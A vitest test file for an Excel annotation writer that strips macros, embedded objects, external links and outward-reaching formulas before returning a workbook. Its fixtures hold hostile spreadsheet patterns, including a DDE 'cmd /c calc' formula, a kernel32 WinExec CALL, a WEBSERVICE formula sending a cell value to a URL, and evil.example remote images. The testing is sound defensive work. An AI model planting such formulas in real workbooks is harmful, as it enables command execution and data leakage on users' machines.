import { describe, expect, test } from 'vitest';
import { streamAnnotated } from '../../../lib/adapters/excel/annotated/write-annotated.ts';
import { readEntryText, zipEntries } from '../../../lib/adapters/excel/zip/zip-entries.ts';
import { buildMarks, readMarks } from '../../../lib/collection/template/marks.ts';
import type { Finding } from '../../../schemas/collection/finding.ts';
import type { OmittedContent } from '../../../schemas/collection/omitted-content.ts';
import { at, buildOrder, packed, plainParts, rowsXml, sheet, version } from './annotation-fixture.ts';
import { bytesOf, cellsByRow, readBack } from './read-back.ts';

const types = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
type TestRelation = readonly [id: string, kind: string, target: string, external?: 'external'];

const relations = (...list: readonly TestRelation[]): string =>
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  list
    .map(
      ([id, kind, target, external]) =>
        `<Relationship Id="${id}" Type="${types}/${kind}" Target="${target}"${external === undefined ? '' : ' TargetMode="External"'}/>`,
    )
    .join('') +
  '</Relationships>';

type Annotated = {
  readonly parts: ReadonlyMap<string, string>;
  readonly omitted: readonly OmittedContent[];
  readonly bytes: Uint8Array;
};

async function annotate(
  parts: Readonly<Record<string, string | Uint8Array>>,
  faults: readonly Finding[] = [],
): Promise<Annotated> {
  const omitted = new Set<OmittedContent>();
  const order = await buildOrder({ source: await packed(parts), general: [] }, faults);
  const bytes = await bytesOf(streamAnnotated(order, omitted));
  return {
    bytes,
    omitted: [...omitted].sort(),
    parts: new Map(zipEntries(bytes).map((entry) => [entry.name, readEntryText(entry)])),
  };
}

const dataSheet = (xml: string) => `<sheetData>${rowsXml(sheet)}</sheetData>${xml}`;
const sheetRelations = 'xl/worksheets/_rels/sheet1.xml.rels';
const bookRelations = (...more: readonly TestRelation[]) =>
  relations(['rId1', 'worksheet', 'worksheets/sheet1.xml'], ['rId2', 'styles', 'styles.xml'], ...more);
const withFormula = (formula: string, attributes = '') =>
  `<sheetData><row r="4"><c r="A4"><f${attributes}>${formula}</f><v>7</v></c></row></sheetData>`;

describe('content that runs or reaches outside the file does not go back', () => {
  test.each<readonly [name: string, parts: Readonly<Record<string, string>>, gone: string, omitted: OmittedContent]>([
    [
      'a link to another workbook',
      {
        'xl/_rels/workbook.xml.rels': bookRelations(['rId9', 'externalLink', 'externalLinks/externalLink1.xml']),
        'xl/externalLinks/externalLink1.xml': '<externalLink>evil</externalLink>',
      },
      'evil',
      'external-links',
    ],
    [
      'a connection',
      {
        'xl/_rels/workbook.xml.rels': bookRelations(['rId9', 'connections', 'connections.xml']),
        'xl/connections.xml': '<connections>evil</connections>',
      },
      'evil',
      'connections',
    ],
    [
      'a query whose program stands in custom XML',
      {
        '_rels/.rels': relations(
          ['rId1', 'officeDocument', 'xl/workbook.xml'],
          ['rId2', 'customXml', 'customXml/item1.xml'],
        ),
        'customXml/item1.xml': '<DataMashup>evil</DataMashup>',
      },
      'evil',
      'connections',
    ],
    [
      'an embedded object',
      {
        [sheetRelations]: relations(['rId5', 'oleObject', '../embeddings/oleObject1.bin']),
        'xl/embeddings/oleObject1.bin': 'evil',
        'xl/worksheets/sheet1.xml': `<worksheet>${dataSheet('<oleObjects><oleObject progId="evil" r:id="rId5"/></oleObjects>')}</worksheet>`,
      },
      'evil',
      'embedded-objects',
    ],
    [
      'a control within a compatibility wrapper',
      {
        [sheetRelations]: relations(['rId5', 'control', '../activeX/activeX1.xml']),
        'xl/activeX/activeX1.xml': '<ocx>evil</ocx>',
        'xl/worksheets/sheet1.xml': `<worksheet>${dataSheet('<mc:AlternateContent><mc:Choice><controls><control name="evil" r:id="rId5"/></controls></mc:Choice></mc:AlternateContent>')}</worksheet>`,
      },
      'evil',
      'embedded-objects',
    ],
    [
      'a macro under a harmless name',
      {
        'xl/_rels/workbook.xml.rels': bookRelations(['rId9', 'vbaProject', 'media/image1.bin']),
        'xl/media/image1.bin': 'evil',
      },
      'evil',
      'macros',
    ],
    [
      'a web extension',
      {
        '_rels/.rels': relations(
          ['rId1', 'officeDocument', 'xl/workbook.xml'],
          ['rId2', 'webextensiontaskpanes', 'xl/webextensions/taskpanes.xml'],
        ),
        'xl/webextensions/taskpanes.xml': '<taskpanes>evil</taskpanes>',
      },
      'evil',
      'web-extensions',
    ],
    [
      'a relation that nobody knows',
      {
        'xl/_rels/workbook.xml.rels': bookRelations(['rId9', 'newThing2030', 'new.xml']),
        'xl/new.xml': '<new>evil</new>',
      },
      'evil',
      'unknown-parts',
    ],
    [
      'a picture that is loaded from a server',
      {
        [sheetRelations]: relations(['rId5', 'drawing', '../drawings/drawing1.xml']),
        'xl/worksheets/sheet1.xml': `<worksheet>${dataSheet('<drawing r:id="rId5"/>')}</worksheet>`,
        'xl/drawings/drawing1.xml': '<wsDr><pic><blip r:link="rId1"/></pic></wsDr>',
        'xl/drawings/_rels/drawing1.xml.rels': relations(['rId1', 'image', 'https://evil.example/x.png', 'external']),
      },
      'evil',
      'external-links',
    ],
    [
      'a hyperlink to a program',
      {
        [sheetRelations]: relations(['rId5', 'hyperlink', 'file:///c:/evil.bat', 'external']),
        'xl/worksheets/sheet1.xml': `<worksheet>${dataSheet('<hyperlinks><hyperlink ref="A1" r:id="rId5"/></hyperlinks>')}</worksheet>`,
      },
      'rId5',
      'file-links',
    ],
  ])('%s', async (_name, more, gone, omitted) => {
    const result = await annotate(plainParts(dataSheet(''), '登记表', more), [at(6, 'A', 'wrong')]);
    expect([...result.parts.values()].join('\n')).not.toContain(gone);
    expect(result.omitted).toEqual([omitted]);
    expect(result.parts.get('xl/worksheets/sheet2.xml')).toContain('为安全起见');
    expect((await cellsByRow(await readBack(result.bytes), '登记表')).get(4)?.[0]).toBe('王芳');
  });

  test('a part that no relation names stays behind without a word', async () => {
    const result = await annotate(plainParts(dataSheet(''), '登记表', { 'xl/hidden.bin': 'evil' }));
    expect([...result.parts.keys()]).not.toContain('xl/hidden.bin');
    expect(result.omitted).toEqual([]);
  });

  test('macros of shapes go, their shapes stay', async () => {
    const result = await annotate(
      plainParts(dataSheet(''), '登记表', {
        [sheetRelations]: relations(
          ['rId5', 'drawing', '../drawings/drawing1.xml'],
          ['rId6', 'vmlDrawing', '../drawings/vml1.vml'],
        ),
        'xl/worksheets/sheet1.xml': `<worksheet>${dataSheet('<drawing r:id="rId5"/><legacyDrawing r:id="rId6"/>')}</worksheet>`,
        'xl/drawings/drawing1.xml': '<wsDr><sp macro="[1]!evil"><t>图形</t></sp></wsDr>',
        'xl/drawings/vml1.vml':
          '<xml><v:shape id="_x0000_s1025"><x:FmlaMacro>[0]!evil</x:FmlaMacro><v:imagedata src="http://evil.example/a.png"/></v:shape></xml>',
      }),
    );
    expect([...result.parts.values()].join('\n')).not.toContain('evil');
    expect(result.parts.get('xl/drawings/drawing1.xml')).toContain('<t>图形</t>');
    expect(result.parts.get('xl/drawings/vml1.vml')).toContain('<v:shape id="_x0000_s1025">');
  });
});

describe('a formula that reaches outside becomes its last value', () => {
  test.each([
    ['another workbook', '[1]Sheet1!A1'],
    ['a sheet with a quoted name', "SUM('[2]Sheet (1)'!A1:B2)"],
    ['a name of another workbook', '[1]!total'],
    ['a path', "'C:\\books\\[book.xlsx]Sheet1'!A1"],
    ['a share', "'\\\\server\\share\\[book.xlsx]Sheet1'!A1"],
    ['LibreOffice’s address', "'file:///c:/book.ods'#$Sheet1.A1"],
    ['DDE', "cmd|'/c calc'!A0"],
    ['a bracket as a character reference', '&#91;1]Sheet1!A1'],
    ['a section of characters', '<![CDATA[[1]Sheet1!A1]]>'],
    ['a web service', 'WEBSERVICE("http://example.org/?"&amp;A1)'],
    ['a web service by its stored name', '_xlfn.WEBSERVICE(A1)'],
    ['a picture from a server', '_xlfn.IMAGE("https://example.org/a.png")'],
    ['real-time data', 'RTD("prog",,"topic")'],
    ['a library call', 'CALL("kernel32","WinExec","JC")'],
  ])('%s', async (_name, formula) => {
    const result = await annotate(plainParts(withFormula(formula)));
    expect(result.parts.get('xl/worksheets/sheet1.xml')).toContain('<c r="A4"><v>7</v></c>');
    expect(result.omitted).toEqual(['active-formulas']);
  });

  test.each([
    ['a sum', 'SUM(A1:A3)'],
    ['another sheet', "'说明 (1)'!A1"],
    ['a column of a table', 'SUM(Table1[金额])'],
    ['a row of a table', 'Table1[[#This Row],[单价]]*2'],
    ['a column named by a number', 'SUM(Table1[1])'],
    ['brackets within text', '"[1]Sheet!A1|x"&amp;A1'],
    ['a link to click', 'HYPERLINK("https://example.org/","说明")'],
    ['a name like a function', 'MYCALL_1+CALLS'],
  ])('%s stays', async (_name, formula) => {
    const result = await annotate(plainParts(withFormula(formula)), [at(4, 'B', 'wrong')]);
    expect(result.parts.get('xl/worksheets/sheet1.xml')).toContain(`<f>${formula}</f><v>7</v>`);
    expect(result.omitted).toEqual([]);
  });

  test('the other cells of a shared formula follow its first', async () => {
    const cells =
      '<row r="4"><c r="A4"><f t="shared" ref="A4:A5" si="0">[1]S!A1</f><v>7</v></c></row>' +
      '<row r="5"><c r="A5"><f t="shared" si="0"/><v>8</v></c><c r="B5"><f t="shared" si="1" ref="B5">A5</f><v>9</v></c></row>';
    const result = await annotate(plainParts(`<sheetData>${cells}</sheetData>`));
    expect(result.parts.get('xl/worksheets/sheet1.xml')).toContain(
      '<row r="4"><c r="A4"><v>7</v></c></row><row r="5"><c r="A5"><v>8</v></c><c r="B5"><f t="shared" si="1" ref="B5">A5</f><v>9</v></c></row>',
    );
  });

  test('a name alone is said in the list too', async () => {
    const names = '<definedNames><definedName name="a">[1]S!A1</definedName></definedNames>';
    const result = await annotate(
      plainParts(dataSheet(''), '登记表', {
        'xl/workbook.xml': `<workbook xmlns:r="${types}"><sheets><sheet name="登记表" sheetId="1" r:id="rId1"/></sheets>${names}</workbook>`,
      }),
    );
    expect(result.omitted).toEqual(['active-formulas']);
    expect(result.parts.get('xl/worksheets/sheet2.xml')).toContain('引用其他文件');
  });

  test('in a further sheet, a name, a validation and a conditional format too', async () => {
    const result = await annotate(
      plainParts(
        dataSheet(
          '<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>[1]S!A1</formula></cfRule></conditionalFormatting>' +
            '<conditionalFormatting sqref="B1"><cfRule type="expression"><formula>B1&gt;1</formula></cfRule></conditionalFormatting>' +
            '<dataValidations count="2"><dataValidation sqref="A1" type="list"><formula1>[1]S!A1</formula1></dataValidation>' +
            '<dataValidation sqref="B1" type="list"><formula1>"男,女"</formula1></dataValidation></dataValidations>',
        ),
        '登记表',
        {
          'xl/workbook.xml': `<workbook xmlns:r="${types}"><sheets><sheet name="登记表" sheetId="1" r:id="rId1"/><sheet name="说明" sheetId="2" r:id="rId3"/></sheets><definedNames><definedName name="a">[1]S!A1</definedName><definedName name="b" localSheetId="1">说明!$A$1</definedName></definedNames></workbook>`,
          'xl/_rels/workbook.xml.rels': bookRelations(['rId3', 'worksheet', 'worksheets/sheet2.xml']),
          'xl/worksheets/sheet2.xml': `<worksheet>${withFormula('[1]S!A1')}</worksheet>`,
        },
      ),
    );
    expect([...result.parts.values()].join('\n')).not.toContain('[1]S!A1');
    const data = result.parts.get('xl/worksheets/sheet1.xml');
    expect(data).toContain('<conditionalFormatting sqref="B1">');
    expect(data).toContain('<dataValidations><dataValidation sqref="B1" type="list">');
    expect(result.parts.get('xl/workbook.xml')).toContain(
      '<definedName name="b" localSheetId="2">说明!$A$1</definedName>',
    );
    expect(result.omitted).toEqual(['active-formulas']);
  });
});

describe('an odd package comes back sound', () => {
  const prefixed = (xml: string) => xml.replace(/<(\/?)(?=[a-z])/gi, '<$1x:').replace('xmlns=', 'xmlns:x=');
  const plain = plainParts(dataSheet(''));
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  test.each<readonly [name: string, parts: Readonly<Record<string, string | Uint8Array>>]>([
    [
      'prefixed elements',
      { 'xl/worksheets/sheet1.xml': prefixed(`<worksheet xmlns="${main}">${dataSheet('')}</worksheet>`) },
    ],
    [
      'no styles',
      {
        'xl/_rels/workbook.xml.rels': relations(['rId1', 'worksheet', 'worksheets/sheet1.xml']),
        'xl/styles.xml': '<styleSheet/>',
      },
    ],
    [
      'absolute targets',
      {
        'xl/_rels/workbook.xml.rels': relations(
          ['rId1', 'worksheet', '/xl/worksheets/sheet1.xml'],
          ['rId2', 'styles', '/xl/styles.xml'],
        ),
      },
    ],
    [
      'a sheet in UTF-16',
      {
        'xl/worksheets/sheet1.xml': Buffer.from(
          `\ufeff<?xml version="1.0" encoding="UTF-16"?><worksheet>${dataSheet('')}</worksheet>`,
          'utf16le',
        ),
      },
    ],
    [
      'rows and cells without references',
      { 'xl/worksheets/sheet1.xml': `<worksheet>${dataSheet('').replace(/ r="[A-Z]+\d+"/g, '')}</worksheet>` },
    ],
    [
      'the end of a row as text',
      {
        'xl/worksheets/sheet1.xml': `<worksheet>${dataSheet('').replace('<row r="4">', '<row r="4"><!-- </row> -->')}</worksheet>`,
      },
    ],
    [
      'a relation whose part is missing',
      { [sheetRelations]: relations(['rId5', 'drawing', '../drawings/none.xml'], ['rId6', 'comments', '../none.xml']) },
    ],
  ])('%s', async (_name, more) => {
    const result = await annotate({ ...plain, ...more }, [at(6, 'B', 'wrong'), at(12, 'A', 'beyond')]);
    const workbook = await readBack(result.bytes);
    expect(workbook.sheets.map(({ name }) => name)).toEqual(['问题清单', '登记表']);
    const rows = await cellsByRow(workbook, '登记表');
    expect([rows.get(3)?.[0], rows.get(4)?.[0], rows.get(6)?.[1]]).toEqual(['持有人', '王芳', 'A-1']);
    expect(result.parts.get('xl/comments1.xml')).toMatch(/ref="B6".*ref="A12"/s);
    expect(result.parts.get('xl/worksheets/sheet1.xml')).toMatch(/<(?:x:)?legacyDrawing [^>]*\/>/);
    expect([...result.parts.values()].join('').match(/FFFFB3B3/g)?.length).toBe(1);
  });
});

describe('annotated again', () => {
  test('earlier colours, notes and list go; the officer’s own stay', async () => {
    const blue = {
      'xl/worksheets/sheet1.xml': `<worksheet>${dataSheet('').replace('r="A6" s="0"', 'r="A6" s="2"')}</worksheet>`,
    };
    const first = await annotate(plainParts('', '登记表', blue), [
      at(6, 'A', 'wrong'),
      at(6, 'B', 'odd', { severity: 'warning' }),
    ]);
    const order = await buildOrder({ source: first.bytes, general: [] }, [at(9, 'B', 'wrong')]);
    const second = await bytesOf(streamAnnotated(order));
    expect((await readBack(second)).sheets.map(({ name }) => name)).toEqual(['问题清单', '登记表']);
    const parts = new Map(zipEntries(second).map((entry) => [entry.name, readEntryText(entry)]));
    expect(parts.get('xl/comments1.xml')?.match(/ref="[A-Z]+\d+"/g)).toEqual(['ref="B9"']);
    expect(parts.get('xl/drawings/vmlDrawing1.vml')?.match(/<x:Row>\d+/g)).toEqual(['<x:Row>8']);
    const styleOf = (cell: string) =>
      Number(new RegExp(`<c r="${cell}"[^>]* s="(\\d+)"`).exec(parts.get('xl/worksheets/sheet1.xml') ?? '')?.[1]);
    const styles = parts.get('xl/styles.xml') ?? '';
    const xfs = [...(/<cellXfs[^>]*>(.*)<\/cellXfs>/s.exec(styles)?.[1] ?? '').matchAll(/<xf [^>]*fillId="(\d+)"/g)];
    const fills = [...styles.matchAll(/<fill>.*?<\/fill>/gs)].map(([fill]) => fill);
    const fillOf = (cell: string) => fills[Number(xfs[styleOf(cell)]?.[1])];
    expect(fillOf('A6')).toContain('rgb="FF00B0F0"');
    expect(fillOf('A6')).not.toContain('FFFFB3B3');
    expect(fillOf('B6')).toContain('patternType="none"');
    expect(fillOf('B9')).toContain('FFFFB3B3');
  });

  test('a workbook without properties gets a part with the marks', async () => {
    const { properties } = await readBack((await annotate(plainParts(dataSheet('')))).bytes);
    expect(readMarks(properties, [])).toEqual(buildMarks(version));
  });

  test('a workbook without marks gets those of the dataset, and keeps its properties', async () => {
    const custom =
      '<Properties xmlns="c" xmlns:vt="v"><property pid="7" name="密级"><vt:lpwstr>内部</vt:lpwstr></property></Properties>';
    const { bytes } = await annotate(
      plainParts(dataSheet(''), '登记表', {
        '_rels/.rels': relations(
          ['rId1', 'officeDocument', 'xl/workbook.xml'],
          ['rId2', 'custom-properties', 'docProps/custom.xml'],
        ),
        'docProps/custom.xml': custom,
      }),
    );
    const { properties } = await readBack(bytes);
    expect(readMarks(properties, [])).toEqual(buildMarks(version));
    expect(properties.get('密级')).toBe('内部');
  });

  test('a sheet of the officer’s own called 问题清单 stays beside the list', async () => {
    const parts = plainParts(dataSheet(''), '登记表', {
      'xl/workbook.xml': `<workbook xmlns:r="${types}"><sheets><sheet name="登记表" sheetId="1" r:id="rId1"/><sheet name="问题清单" sheetId="2" r:id="rId3"/></sheets></workbook>`,
      'xl/_rels/workbook.xml.rels': bookRelations(['rId3', 'worksheet', 'worksheets/sheet2.xml']),
      'xl/worksheets/sheet2.xml': `<worksheet>${withFormula('1+6')}</worksheet>`,
    });
    const { bytes } = await annotate(parts);
    expect((await readBack(bytes)).sheets.map(({ name }) => name)).toEqual(['问题清单(2)', '登记表', '问题清单']);
  });
});

test('a workbook of the strict standard stays one', async () => {
  const strictly = (text: string) =>
    text
      .replaceAll(
        'http://schemas.openxmlformats.org/spreadsheetml/2006/main',
        'http://purl.oclc.org/ooxml/spreadsheetml/main',
      )
      .replaceAll(types, 'http://purl.oclc.org/ooxml/officeDocument/relationships');
  const strict = Object.fromEntries(
    Object.entries(plainParts(dataSheet(''))).map(([name, part]) => [
      name,
      typeof part === 'string' ? strictly(part) : part,
    ]),
  );
  const { parts, bytes } = await annotate(strict, [at(4, 'A', 'required-cell-empty')]);
  const transitional = [...parts].filter(
    ([name, text]) =>
      !name.endsWith('.vml') && /schemas\.openxmlformats\.org\/(?:spreadsheetml|officeDocument)/.test(text),
  );
  expect(transitional.map(([name]) => name)).toEqual([]);
  const workbook = await readBack(bytes);
  expect((await cellsByRow(workbook, '登记表')).get(4)?.slice(0, 2)).toEqual(['王芳', 'A-1']);
  expect(readMarks(workbook.properties, [])).toEqual(buildMarks(version));
});
